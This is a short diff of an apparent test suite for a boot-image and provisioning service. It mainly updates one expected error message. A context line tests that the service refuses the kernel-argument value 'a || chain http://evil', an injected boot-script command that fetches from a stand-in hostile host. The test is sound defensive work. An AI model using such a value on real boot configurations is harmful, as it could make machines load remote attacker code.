@@ -94,7 +94,7 @@ def intake(service, folder):
     refused(service, "boot script", "image", "add", *pair, "--name", "evil", "--kernel-arguments", "a || chain http://evil")
     disk = service.disk_image()
     service.run("image", "add", disk, "--name", "disk")
-    refused(service, "no RAM disk", "image", "set", "disk", "--kernel-arguments", "x")
+    refused(service, "is not a RAM disk", "image", "set", "disk", "--kernel-arguments", "x")
     refused(service, "kernel_arguments are for RAM disks", "provision", "disk", "n0", "--kernel-arguments", "x")
     refused(service, "no disk is written", "provision", "rescue", "n0", "--layout", "plain")
     refused(service, "no disk is written", "provision", "rescue", "n0", "--full")
